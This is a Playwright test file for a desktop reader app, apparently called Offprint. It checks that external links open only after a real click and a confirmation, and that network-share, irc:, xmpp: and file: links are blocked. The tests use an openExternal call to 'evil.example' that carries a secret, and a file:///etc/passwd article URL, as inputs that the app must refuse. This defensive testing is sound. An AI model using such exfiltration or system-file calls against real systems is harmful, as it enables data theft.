/**
 * Links that cannot leak (issue 18): the system browser opens only what a person clicked and then confirmed;
 * a page's own call is refused; links that would reach a network share or another app are text; a bundle may not
 * give an article a file: address; a middle-click on a note's link takes the same path as a click.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from './fixtures';
import type { AppSession } from './harness';
import { panel } from './support/highlights';
import { BASE, HIGHLIGHT_NOTE_LINK, HTML_TITLE, LEAKY_LINKS, MARKDOWN_TITLE, writeLinkBundle } from './support/link-bundle';
import { addNote, notesRegion } from './support/notes';
import { articleBody, openArticle } from './support/reader';

const GOOD = 'https://example.org/good';

async function importLinks(app: AppSession, dir: string): Promise<void> {
  await app.chooseOnNextImport([writeLinkBundle(dir)]);
  await app.emit('menu:command', 'import');
  await expect(app.page.getByRole('status', { name: 'Import status' })).toContainText('Imported 2 articles. 1 file could not be imported:');
}

test('a page calling openExternal with no click is refused, and so is a script’s click', async ({ launch, profileDir }) => {
  const app = await launch();
  const refused = await app.page.evaluate(() => window.offprint.shell.openExternal('https://evil.example/c?d=secret'));
  expect(refused).toEqual({
    ok: false,
    error: { code: 'forbidden', message: 'Links open outside Offprint only when you click them.', reason: { code: 'linkNotClicked' } },
  });

  await importLinks(app, profileDir);
  await openArticle(app.page, HTML_TITLE);
  // The person's click on the article used its gesture: cancel one real link, so no gesture is left unused.
  await articleBody(app.page).getByRole('link', { name: 'the good link' }).click();
  await expect.poll(() => app.openConfirmations()).toEqual([GOOD]);
  // A click the page's script makes is no person's: main refuses it, and the reader says why.
  await articleBody(app.page).getByRole('link', { name: 'the other page' }).dispatchEvent('click');
  await expect(app.page.getByRole('alert')).toContainText('Links open outside Offprint only when you click them.');
  expect(await app.openConfirmations()).toEqual([GOOD]);
  expect(await app.openedExternalUrls()).toEqual([]);
});

test('a click asks first and opens only after yes; "Always open links to this site" is remembered', async ({ launch, profileDir }) => {
  const app = await launch();
  await importLinks(app, profileDir);
  await openArticle(app.page, HTML_TITLE);
  const body = articleBody(app.page);

  await body.getByRole('link', { name: 'the good link' }).click();
  await expect.poll(() => app.openConfirmations()).toEqual([GOOD]);
  expect(await app.openedExternalUrls()).toEqual([]);

  await app.answerNextOpenConfirmation({ open: true });
  await body.getByRole('link', { name: 'the good link' }).click();
  await expect.poll(() => app.openedExternalUrls()).toEqual([GOOD]);

  // A relative link was resolved against the article's own address.
  await app.answerNextOpenConfirmation({ open: true, alwaysOpenSite: true });
  await body.getByRole('link', { name: 'the next page' }).click();
  const next = new URL('next.html', BASE).href;
  await expect.poll(() => app.openedExternalUrls()).toEqual([GOOD, next]);
  expect(JSON.parse(readFileSync(join(profileDir, 'trusted-sites.json'), 'utf8'))).toEqual({ version: 1, sites: ['https://example.org'] });

  // The site is trusted now: no question, and it opens.
  await body.getByRole('link', { name: 'the other page' }).click();
  await expect.poll(() => app.openedExternalUrls()).toEqual([GOOD, next, 'https://example.org/other']);
  expect(await app.openConfirmations()).toEqual([GOOD, GOOD, next]);
});

test('//host/share, \\\\host\\share, irc: and xmpp: never become links, nor a bundle url of file:///etc/passwd', async ({ launch, profileDir }) => {
  const app = await launch();
  await importLinks(app, profileDir);
  const status = app.page.getByRole('status', { name: 'Import status' });
  await expect(status).toContainText("Links.offprint › articles/passwd/article.json — \u2068url must be the article's canonical web address");
  await expect(app.page.getByRole('list', { name: 'Articles' }).getByRole('button', { name: 'The password file' })).toHaveCount(0);

  for (const title of [HTML_TITLE, MARKDOWN_TITLE]) {
    await openArticle(app.page, title);
    const body = articleBody(app.page);
    await expect(body.getByRole('link', { name: 'the good link' })).toHaveAttribute('href', GOOD);
    for (const { text, href } of LEAKY_LINKS) {
      const words = body.getByText(text, { exact: true });
      await expect(words).toBeVisible();
      await expect(body.getByRole('link', { name: text })).toHaveCount(0);
      await expect(words).not.toHaveAttribute('href', /./);
      if (title === HTML_TITLE) await expect(words).toHaveAttribute('title', href);
      await words.click();
    }
    await expect(app.page.locator('a[href^="file:"], a[href^="//"], a[href^="\\\\"], a[href^="irc:"], a[href^="xmpp:"]')).toHaveCount(0);
    await app.page.getByRole('button', { name: 'Back to library' }).click();
  }
  expect(await app.openConfirmations()).toEqual([]);
  expect(await app.openedExternalUrls()).toEqual([]);
});

test('a middle-click on a link in a note or a highlight note goes through the same path as a click', async ({ launch, profileDir }) => {
  const app = await launch();
  await importLinks(app, profileDir);
  await openArticle(app.page, MARKDOWN_TITLE);
  await addNote(app.page, 'Compare [the note link](https://example.org/from-a-note) and [the share](//host/share).');
  const notes = notesRegion(app.page);
  const link = notes.getByRole('link', { name: 'the note link' });

  await link.click({ button: 'middle' });
  await expect.poll(() => app.openConfirmations()).toEqual(['https://example.org/from-a-note']);
  expect(await app.openedExternalUrls()).toEqual([]);
  await app.answerNextOpenConfirmation({ open: true });
  await link.click({ button: 'middle' });
  await expect.poll(() => app.openedExternalUrls()).toEqual(['https://example.org/from-a-note']);
  // No new window or tab: the page is still the app.
  expect(app.context.pages()).toHaveLength(1);
  await expect(notes.getByRole('link', { name: 'the share' })).toHaveCount(0);

  await app.page.getByRole('button', { name: 'Highlights and notes' }).click();
  const inPanel = panel(app.page).getByRole('link', { name: 'the highlight link' });
  await app.answerNextOpenConfirmation({ open: true });
  await inPanel.click({ button: 'middle' });
  await expect.poll(() => app.openedExternalUrls()).toEqual(['https://example.org/from-a-note', HIGHLIGHT_NOTE_LINK]);
  expect(await app.openConfirmations()).toEqual(['https://example.org/from-a-note', 'https://example.org/from-a-note', HIGHLIGHT_NOTE_LINK]);
  expect(app.context.pages()).toHaveLength(1);
});
